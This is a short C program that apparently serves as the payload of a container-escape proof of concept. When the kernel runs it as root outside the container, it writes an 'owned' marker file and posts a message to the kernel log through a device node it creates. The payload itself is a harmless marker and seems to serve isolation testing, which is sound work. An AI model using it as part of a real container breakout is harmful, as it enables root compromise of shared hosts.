// What a kernel runs for an attacker, as root and outside of every container: the argument names the file to leave behind,
// with '@' for '/', because a cgroup's name has no slash. It says so in the kernel's log as well, which a guest has too.
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  const char *given = argv[1] + strspn(argv[1], "/");
  char path[512];
  snprintf(path, sizeof path, "%s", given);
  for (char *at = path; *at; at++) if (*at == '@') *at = '/';
  int out = open(path, O_WRONLY | O_CREAT, 0600);
  if (out >= 0) dprintf(out, "owned\n");
  mknod("/own-kmsg", S_IFCHR | 0600, makedev(1, 11));
  int log = open("/own-kmsg", O_WRONLY);
  if (log < 0) log = open("/dev/kmsg", O_WRONLY);
  if (log >= 0) dprintf(log, "owned by %s\n", given);
  unlink("/own-kmsg");
  return 0;
}
